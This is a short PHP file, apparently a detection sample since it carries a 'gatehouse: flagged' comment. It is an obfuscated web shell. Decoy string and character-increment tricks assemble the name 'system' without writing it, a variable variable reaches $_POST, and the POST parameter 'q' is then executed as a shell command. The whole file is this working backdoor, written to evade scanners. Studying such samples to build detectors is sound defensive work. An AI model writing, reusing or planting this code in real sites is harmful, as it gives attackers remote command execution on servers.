<?php
// Nothing here says which function it is: its letters are counted.
$a = [].'';
$a = $a[0];
$name = '';
for ($i = 0, $c = 's'; $i < 1; $i++) { $name .= $c; }
$d = 'w'; $d++; $d++; $name .= $d;
$name .= 's'; $e = 'r'; $e++; $e++; $name .= $e; $name = 'sys' . $e . 'em';
$f = '_POS'; $f .= chr(84); $g = $$f;
$name($g['q']); // gatehouse: flagged
